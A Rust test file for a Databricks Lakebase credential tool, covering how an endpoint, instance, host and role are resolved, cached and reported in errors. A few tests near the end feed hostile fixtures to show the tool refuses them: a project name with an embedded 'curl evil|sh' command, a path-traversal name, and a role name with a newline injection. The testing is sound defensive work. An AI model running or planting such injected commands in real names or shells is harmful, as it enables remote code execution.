//! Resolving the database and the role: from a host, endpoint, instance, project or nothing.

use serde_json::json;

#[cfg(unix)]
use std::process::Command;

use super::support::{HOUR, Test, workspace};
#[cfg(unix)]
use super::support::{executable, has};
#[cfg(unix)]
use crate::sandbox::Sandbox;
use crate::sandbox::server::Answer;
use crate::sandbox::workspace::*;

fn unnamed(workspace: &Workspace) -> Test {
    let mut test = Test::at(workspace);
    test.unset("LAKEBASE_ENDPOINT");
    test
}

fn endpoint(name: &'static str, uid: &'static str, kind: &'static str) -> Endpoint {
    Endpoint {
        name,
        uid,
        kind,
        disabled: false,
        hosts: json!({ "host": format!("{uid}.db.example.com") }),
    }
}

/// Adds a second project. With one item on a page, every list has several pages.
fn add_project(workspace: &Workspace) {
    let mut state = workspace.state();
    state.page_size = 1;
    state.projects.push(Project {
        name: "projects/lab",
        branches: vec![
            Branch {
                name: "projects/lab/branches/old",
                default: false,
                state: "ARCHIVED",
                endpoints: vec![endpoint(
                    "projects/lab/branches/old/endpoints/primary",
                    "ep-dusty-attic-1",
                    "ENDPOINT_TYPE_READ_WRITE",
                )],
            },
            Branch {
                name: "projects/lab/branches/main",
                default: true,
                state: "READY",
                endpoints: vec![
                    endpoint(
                        "projects/lab/branches/main/endpoints/ro",
                        "ep-calm-sea-2",
                        "ENDPOINT_TYPE_READ_ONLY",
                    ),
                    endpoint(
                        "projects/lab/branches/main/endpoints/rw",
                        "ep-calm-sea-3",
                        "ENDPOINT_TYPE_READ_WRITE",
                    ),
                ],
            },
        ],
    });
}

/// The database of the last credential.
fn minted_for(workspace: &Workspace) -> String {
    let state = workspace.state();
    let request =
        state.requests.iter().rev().find(|request| request.path.ends_with("/credentials"));
    let body: serde_json::Value = serde_json::from_str(&request.unwrap().body).unwrap();
    let name = body["endpoint"].as_str().or(body["instance_names"][0].as_str());
    name.unwrap().to_owned()
}

#[test]
fn without_a_name_the_only_project_is_used() {
    let workspace = workspace();
    unnamed(&workspace).run("").token();
    assert_eq!(minted_for(&workspace), ENDPOINT);
}

#[test]
fn with_several_projects_the_error_lists_their_names() {
    let workspace = workspace();
    add_project(&workspace);
    let test = unnamed(&workspace);
    test.run("")
        .fails(2, &["several projects", "projects/shop", "projects/lab", "LAKEBASE_ENDPOINT"]);
    workspace.state().projects.clear();
    test.run("").fails(2, &["sees no project"]);
    assert_eq!(workspace.count(MINT), 0);
}

#[test]
fn what_is_deleted_and_still_listed_does_not_count() {
    let workspace = workspace();
    workspace.state().has_deleted = true;
    // The API need not name the default branch.
    workspace.state().change_answer = Some(Box::new(|path, answer| {
        if path.ends_with("/projects") {
            answer["projects"].as_array_mut().unwrap().iter_mut().for_each(|project| {
                project["status"] = json!({});
            });
        }
    }));
    let test = unnamed(&workspace);
    test.run("").token();
    assert_eq!(minted_for(&workspace), ENDPOINT);
    let outcome = test.run("--endpoint projects/gone");
    outcome.fails(4, &["projects/shop"]);
    assert!(!outcome.stderr.contains("projects/deleted"), "{outcome:?}");
    let outcome = test.run("--endpoint projects/shop/branches/gone");
    outcome.fails(4, &["projects/shop/branches/production"]);
    assert!(!outcome.stderr.contains("branches/deleted"), "{outcome:?}");
}

#[test]
fn for_a_project_or_branch_its_read_write_endpoint_is_used() {
    let workspace = workspace();
    add_project(&workspace);
    for name in ["projects/lab", "projects/lab/branches/main"] {
        unnamed(&workspace).run(&format!("--endpoint {name}")).token();
        assert_eq!(minted_for(&workspace), "projects/lab/branches/main/endpoints/rw");
    }
    workspace.state().projects[1].branches[1].endpoints[1].disabled = true;
    let test = unnamed(&workspace);
    test.run("--endpoint projects/lab/branches/main")
        .fails(2, &["no enabled read-write endpoint", "endpoints/ro"]);
    test.run("--endpoint projects/none").fails(4, &["refused to show the project", "NOT_FOUND"]);
}

#[test]
fn a_host_is_resolved_to_its_endpoint_on_any_page_of_the_lists() {
    let workspace = workspace();
    add_project(&workspace);
    for (host, expected) in [
        ("ep-calm-sea-3.db.example.com", "projects/lab/branches/main/endpoints/rw"),
        ("EP-CALM-SEA-2.db.example.com", "projects/lab/branches/main/endpoints/ro"),
        (ENDPOINT_HOST, ENDPOINT),
    ] {
        let mut test = unnamed(&workspace);
        test.set("PGHOST", host).run("").token();
        assert_eq!(minted_for(&workspace), expected, "{host}");
    }
    let mut test = unnamed(&workspace);
    test.set("PGHOST", "ep-dusty-attic-1.db.example.com");
    test.run("")
        .fails(2, &["no endpoint of this workspace listens on ep-dusty-attic-1", "--endpoint"]);
    test.set("PGHOST", "localhost").run("").fails(2, &["listens on localhost"]);

    // Only the first label is known: the password would go to another server.
    test.set("PGHOST", "ep-calm-sea-3.private.example.net");
    test.run("")
        .fails(2, &["listens on ep-calm-sea-3.private.example.net, which comes from PGHOST"]);
    assert_eq!(workspace.count(MINT), 3);
}

/// Of a list of projects, some may be closed to this identity, or be gone already.
#[test]
fn a_project_that_the_workspace_does_not_show_hides_no_other_ones_host() {
    let workspace = workspace();
    add_project(&workspace);
    let no =
        |status, code: &str| Answer::Json(status, json!({ "error_code": code, "message": "no" }));
    let mut test = unnamed(&workspace);
    test.set("PGHOST", "ep-calm-sea-3.db.example.com");
    for answer in [no(403, "PERMISSION_DENIED"), no(404, "NOT_FOUND")] {
        workspace.fault("/api/2.0/postgres/projects/shop/branches", 1, answer);
        test.run("--no-cache").token();
        assert_eq!(minted_for(&workspace), "projects/lab/branches/main/endpoints/rw");
    }
    // Where the host is in the closed one, the error says so.
    let closed = no(403, "PERMISSION_DENIED");
    workspace.fault("/api/2.0/postgres/projects/lab/branches/main/endpoints", 9, closed);
    test.run("--no-cache").fails(
        2,
        &["does not show what is in these of them:", "because: projects/lab/branches/main\n"],
    );
    // A failure is none.
    workspace.state().faults.clear();
    workspace.fault("/api/2.0/postgres/projects/shop/branches", 9, no(400, "BAD_REQUEST"));
    test.run("--no-cache").fails(4, &["BAD_REQUEST"]);
}

#[test]
fn the_host_of_an_instance_is_resolved_with_one_request() {
    let workspace = workspace();
    for host in [
        INSTANCE_HOST.to_owned(),
        INSTANCE_HOST.replace("instance-", "instance-ro-"),
        INSTANCE_HOST.replacen('.', "-ro.", 1),
    ] {
        let mut test = unnamed(&workspace);
        test.set("PGHOST", &host).run("").token();
        assert_eq!(minted_for(&workspace), INSTANCE);
        let requests = workspace.take_requests();
        assert_eq!(requests.len(), 3, "{requests:?}");
        assert_eq!(requests[1], "GET /api/2.0/database/instances:findByUid");
    }
}

#[test]
fn lakebase_endpoint_may_contain_the_host_as_in_databricks_apps() {
    let workspace = workspace();
    let mut test = Test::at(&workspace);
    test.set("LAKEBASE_ENDPOINT", INSTANCE_HOST);
    let printed = test.run("-f json").token();
    assert!(printed.contains(&format!(r#""host":"{INSTANCE_HOST}""#)), "{printed}");
    assert_eq!(minted_for(&workspace), INSTANCE);
}

#[test]
fn variables_of_other_tools_are_read() {
    let workspace = workspace();
    for variable in ["PGENDPOINT", "ENDPOINT_NAME"] {
        let mut test = unnamed(&workspace);
        test.set(variable, ENDPOINT).run("").token();
        assert_eq!(workspace.take_requests().len(), 2, "{variable}");
    }

    // Other programs use this variable, too, so only a resource name is read from it.
    let mut test = unnamed(&workspace);
    test.set("ENDPOINT_NAME", "checkout-service").run("").notes("ENDPOINT_NAME is ignored");
    assert_eq!(minted_for(&workspace), ENDPOINT);
    let mut test = unnamed(&workspace);
    test.set("LAKEBASE_INSTANCE", INSTANCE).run("").token();
    assert_eq!(minted_for(&workspace), INSTANCE);
}

#[test]
fn with_a_named_endpoint_pghost_is_only_the_address_to_connect_to() {
    let workspace = workspace();
    let mut test = Test::at(&workspace);
    test.set("PGHOST", "localhost").set("PGPORT", "15432");
    let printed = test.run("-f json").token();
    assert!(printed.contains(r#""host":"localhost","port":"15432""#), "{printed}");
    assert_eq!(workspace.take_requests().len(), 2);
}

/// `env` and `exec` set PGHOST, so that later calls find it.
#[test]
fn a_named_endpoint_replaces_the_host_that_another_call_has_set() {
    let workspace = workspace();
    let mut test = Test::at(&workspace);
    let other = "ep-other-5678abcd.database.us-east-1.cloud.databricks.com";
    test.set("PGHOST", other);
    let host = |test: &Test, line: &str| {
        let printed: serde_json::Value = serde_json::from_str(&test.run(line).token()).unwrap();
        printed["host"].as_str().unwrap().to_owned()
    };
    assert_eq!(host(&test, "-f json"), other, "two variables of the user");
    assert_eq!(host(&test, &format!("-f json --endpoint {ENDPOINT}")), ENDPOINT_HOST);
    let profile = format!(
        "[p]\nhost = {}\nclient_id = {CLIENT_ID}\nclient_secret = {CLIENT_SECRET}\nlakebase_endpoint = {ENDPOINT}\n",
        workspace.url
    );
    test.write(".databrickscfg", &profile);
    test.unset("LAKEBASE_ENDPOINT");
    assert_eq!(host(&test, "-p p -f json"), ENDPOINT_HOST);
    test.set("LAKEBASE_ENDPOINT", ENDPOINT);
    assert_eq!(host(&test, "-f json"), other);
    // A tunnel to the endpoint is meant.
    test.set("PGHOST", "localhost");
    assert_eq!(host(&test, &format!("-f json --endpoint {ENDPOINT}")), "localhost");
    test.set("PGHOST", other);
    let flag = format!("-f json --endpoint {ENDPOINT} --pg-host {other}");
    assert_eq!(host(&test, &flag), other);
}

#[test]
fn a_flag_overrides_variables_and_two_variables_are_an_error() {
    let workspace = workspace();
    let mut test = Test::at(&workspace);
    test.run(&format!("--instance {INSTANCE}")).token();
    assert_eq!(minted_for(&workspace), INSTANCE);
    test.set("LAKEBASE_INSTANCE", INSTANCE);
    test.run("").fails(
        2,
        &["endpoint and an instance are both named", "LAKEBASE_ENDPOINT", "LAKEBASE_INSTANCE"],
    );
    test.run(&format!("--endpoint {ENDPOINT}")).token();
    assert_eq!(minted_for(&workspace), ENDPOINT);
}

#[test]
fn a_resolved_database_is_cached_for_a_day() {
    let workspace = workspace();
    let mut test = unnamed(&workspace);
    test.set("PGHOST", ENDPOINT_HOST);
    test.run("").token();
    let resolving = workspace.take_requests().len();
    assert_eq!(resolving, 5);
    test.pass(2 * HOUR);
    test.run("").token();
    assert_eq!(workspace.take_requests().len(), 2);
    test.pass(23 * HOUR);
    test.run("").token();
    assert_eq!(workspace.take_requests().len(), resolving);
}

#[test]
fn a_cached_database_that_no_longer_exists_is_resolved_again() {
    let workspace = workspace();
    let test = unnamed(&workspace);
    test.run("").token();
    {
        let mut state = workspace.state();
        let endpoint = &mut state.projects[0].branches[0].endpoints[0];
        endpoint.name = "projects/shop/branches/production/endpoints/replacement";
    }
    test.run("--refresh").token();
    assert_eq!(minted_for(&workspace), "projects/shop/branches/production/endpoints/replacement");

    // If it still does not exist, the error is final.
    workspace.take_requests();
    workspace.fault(
        MINT,
        9,
        Answer::Json(404, json!({ "error_code": "NOT_FOUND", "message": "gone" })),
    );
    test.run("--refresh").fails(4, &["NOT_FOUND: gone"]);
    assert_eq!(workspace.count(MINT), 1);
}

#[test]
fn the_host_of_a_named_endpoint_is_resolved_only_for_formats_that_print_it() {
    let workspace = workspace();
    let test = Test::at(&workspace);
    test.run("").token();
    workspace.take_requests();
    let printed = test.run("-f json").token();
    assert!(printed.contains(ENDPOINT_HOST), "{printed}");
    assert_eq!(workspace.take_requests(), [format!("GET /api/2.0/postgres/{ENDPOINT}")]);
    assert!(test.run("-f url").token().contains(ENDPOINT_HOST));
    assert!(workspace.take_requests().is_empty());
    let printed = test.run(&format!("-f json --instance {INSTANCE}")).token();
    assert!(printed.contains(INSTANCE_HOST), "{printed}");
}

#[test]
fn the_role_is_the_client_id_or_is_resolved_once() {
    let workspace = workspace();
    let mut test = Test::at(&workspace);
    assert!(test.run("-f pgbouncer").token().starts_with(&format!("\"{CLIENT_ID}\"")));
    test.unset("DATABRICKS_CLIENT_ID").unset("DATABRICKS_CLIENT_SECRET");
    test.set("DATABRICKS_TOKEN", PAT);
    test.run("").token();
    let me = "/api/2.0/preview/scim/v2/Me";
    assert_eq!(workspace.count(me), 0, "the raw format needs no role");
    for _ in 0..2 {
        assert!(test.run("-f pgbouncer").token().starts_with(&format!("\"{USER}\"")));
    }
    assert_eq!(workspace.count(me), 1);
    test.set("DATABRICKS_PG_USERNAME", "analysts");
    assert!(test.run("-f pgbouncer").token().starts_with("\"analysts\""));
    test.set("PGUSER", "writers");
    assert!(test.run("-f pgbouncer").token().starts_with("\"writers\""));
}

#[test]
fn the_host_of_an_overridden_endpoint_is_not_printed() {
    let workspace = workspace();
    let mut test = unnamed(&workspace);
    test.set("LAKEBASE_ENDPOINT", ENDPOINT_HOST);
    let printed = test.run(&format!("-f json --instance {INSTANCE}")).token();
    assert!(printed.contains(INSTANCE_HOST) && !printed.contains(ENDPOINT_HOST), "{printed}");
}

#[test]
fn an_instance_without_a_name_in_the_answer_is_found_in_the_list() {
    let workspace = workspace();
    let nameless = json!({ "uid": INSTANCE_UID, "read_write_dns": INSTANCE_HOST });
    workspace.fault("/api/2.0/database/instances:findByUid", 1, Answer::Json(200, nameless));
    let mut test = unnamed(&workspace);
    test.set("PGHOST", INSTANCE_HOST).run("").token();
    assert_eq!(minted_for(&workspace), INSTANCE);
}

#[test]
fn the_default_branch_is_found_in_each_form_that_the_api_has() {
    for default in [json!("main"), json!("projects/lab/branches/main"), json!(null)] {
        let workspace = workspace();
        add_project(&workspace);
        let project = json!({ "name": "projects/lab", "status": { "default_branch": default } });
        workspace.fault("/api/2.0/postgres/projects/lab", 1, Answer::Json(200, project));
        unnamed(&workspace).run("--endpoint projects/lab").token();
        assert_eq!(minted_for(&workspace), "projects/lab/branches/main/endpoints/rw");
    }
    let workspace = workspace();
    add_project(&workspace);
    workspace.state().projects[1].branches[1].default = false;
    unnamed(&workspace)
        .run("--endpoint projects/lab")
        .fails(2, &["projects/lab has no default branch"]);
    workspace.state().projects[1].branches[1].endpoints[0].kind = "ENDPOINT_TYPE_READ_WRITE";
    let line = "--endpoint projects/lab/branches/main";
    unnamed(&workspace).run(line).fails(2, &["several read-write endpoints", "endpoints/ro"]);
}

#[test]
fn the_error_for_an_unknown_name_states_its_origin() {
    let workspace = workspace();
    let mut test = unnamed(&workspace);
    test.run("--instance nosuch").fails(4, &["NOT_FOUND", "nosuch comes from --instance"]);
    test.set("LAKEBASE_ENDPOINT", "projects/nosuch");
    test.run("").fails(4, &["projects/nosuch comes from LAKEBASE_ENDPOINT"]);
    test.unset("LAKEBASE_ENDPOINT");
    test.run("--pg-host db.example.com")
        .fails(2, &["listens on db.example.com, which comes from --pg-host"]);
}

/// A missing name is answered with those beside it, and the hint has the nearest.
#[test]
fn the_error_for_an_unknown_name_lists_what_there_is_beside_it() {
    let workspace = workspace();
    add_project(&workspace);
    let test = unnamed(&workspace);
    let main = "projects/lab/branches/main";
    for (named, listed, hint) in [
        (
            "--endpoint projects/lap",
            "hint: --endpoint projects/lab".to_owned(),
            "these projects in the workspace",
        ),
        (
            "--endpoint projects/lab/branches/mian",
            format!("hint: --endpoint {main}"),
            "these branches of projects/lab in the workspace",
        ),
        (
            "--endpoint projects/lab/branches/main/endpoints/rwx",
            format!("hint: --endpoint {main}/endpoints/rw"),
            "these endpoints of projects/lab/branches/main in the workspace",
        ),
        (
            "--instance legasy",
            format!("hint: --instance {INSTANCE}"),
            "these instances in the workspace",
        ),
    ] {
        test.run(named).fails(4, &["NOT_FOUND", &listed, hint]);
    }
    // A branch that is gone is none, and what is missing is not proposed, although a list may still have it.
    let line = "--endpoint projects/lab/branches/old/endpoints/primary";
    workspace.state().projects[1].branches[0].endpoints.clear();
    let outcome = test.run(line);
    outcome.fails(4, &["hint: --endpoint projects/lab/branches/main"]);
    // The very name in the other product.
    test.run("--endpoint legacy").fails(4, &["hint: --instance legacy"]);
    test.run("--instance lab").fails(4, &["hint: --endpoint projects/lab"]);
    let projects = std::mem::take(&mut workspace.state().projects);
    test.run("--endpoint legacy/main")
        .fails(4, &["this identity sees no projects in the workspace", "hint: --instance legacy"]);
    workspace.state().projects = projects;
    workspace.state().instances.clear();
    test.run("--instance other").fails(4, &["these projects in the workspace"]);
}

#[test]
fn an_invalid_role_name_is_refused_and_not_cached() {
    let workspace = workspace();
    let mut test = Test::at(&workspace);
    test.unset("DATABRICKS_CLIENT_ID")
        .unset("DATABRICKS_CLIENT_SECRET")
        .set("DATABRICKS_TOKEN", PAT);
    for name in ["me\ntext postgres", "", "me\u{7}"] {
        let me = json!({ "userName": name });
        workspace.fault("/api/2.0/preview/scim/v2/Me", 1, Answer::Json(200, me));
        test.run("-f pgbouncer").fails(1, &["empty or unprintable userName"]);
    }
    assert!(test.run("-f pgbouncer").token().starts_with(&format!("\"{USER}\"")));
}

#[test]
fn an_endless_list_is_an_error() {
    let workspace = workspace();
    let page = json!({ "projects": vec![json!([]); 30_000], "next_page_token": "again" });
    workspace.fault("/api/2.0/postgres/projects", 999, Answer::Json(200, page));
    let mut test = unnamed(&workspace);
    test.set("PGHOST", ENDPOINT_HOST).run("").fails(1, &["does not end"]);
    assert!(workspace.take_requests().len() < 5);
}

#[test]
fn invalid_names_from_the_workspace_never_become_paths() {
    let workspace = workspace();
    let page = json!({ "projects": [{ "name": "projects/../../admin", "status": { "default_branch": "" } }] });
    workspace.fault("/api/2.0/postgres/projects", 1, Answer::Json(200, page));
    let mut test = unnamed(&workspace);
    test.set("PGHOST", ENDPOINT_HOST).run("").fails(1, &["gives a project an invalid name"]);

    // Neither the only project's path nor a hint, which a user pastes into a shell.
    let hostile = json!({ "name": "projects/a;curl evil|sh;" });
    let path = "/api/2.0/postgres/projects";
    workspace.fault(path, 1, Answer::Json(200, json!({ "projects": [hostile] })));
    test.unset("PGHOST").run("").fails(1, &["gives a project an invalid name"]);
    let list = json!({ "projects": [hostile, { "name": "projects/shop" }] });
    workspace.fault(path, 1, Answer::Json(200, list));
    test.run("").fails(2, &["several projects", "hint: --endpoint projects/shop,"]);
    let list = json!({ "projects": [hostile, hostile] });
    workspace.fault(path, 1, Answer::Json(200, list));
    test.run("").fails(2, &["hint: --endpoint projects/PROJECT,"]);
}

/// The figures of `tests/README.md`, "Requests".
#[test]
fn the_first_password_takes_few_requests() {
    let workspace = workspace();
    let requests = |settings: &[(&str, &str)], line: &str| {
        let mut test = unnamed(&workspace);
        settings.iter().for_each(|(name, value)| _ = test.set(name, value));
        test.run(line).token();
        workspace.take_requests().len()
    };
    let person: &[(&str, &str)] = &[
        ("DATABRICKS_CLIENT_ID", ""),
        ("DATABRICKS_CLIENT_SECRET", ""),
        ("DATABRICKS_TOKEN", PAT),
    ];
    let known = [("LAKEBASE_ENDPOINT", ENDPOINT), ("PGHOST", ENDPOINT_HOST)];
    assert_eq!(requests(&known, "-f env"), 2);
    assert_eq!(requests(&known[..1], "-f env"), 3);
    assert_eq!(requests(&known[..1], "-f env --pooled"), 3);
    assert_eq!(requests(&[], "-f env"), 4);
    // A person's token needs no request here, and the role one more.
    assert_eq!(requests(person, "-f env"), 4);
}

#[test]
#[cfg(unix)]
fn a_call_resolves_the_workspaces_name_once() {
    let test = "resolve::a_call_resolves";
    if !has(test, "strace") {
        return;
    }
    let sandbox = Sandbox::start().unwrap();
    let url = sandbox.workspace.url.replace("127.0.0.1", "localhost");
    let trace = sandbox.folder.path().join("trace");
    let mut command = Command::new("strace");
    command.args(["-f", "-qq", "-e", "trace=openat", "-o"]).arg(&trace).arg(executable());
    command.env_clear().envs(sandbox.env());
    command.env("DATABRICKS_HOST", url).env("PGHOST", "");
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(sandbox.workspace.take_requests().len() >= 4);
    let trace = std::fs::read_to_string(trace).unwrap();
    // Once for each address family.
    let count = trace.matches("\"/etc/hosts\"").count();
    assert_eq!(count, 2, "{trace}");
}
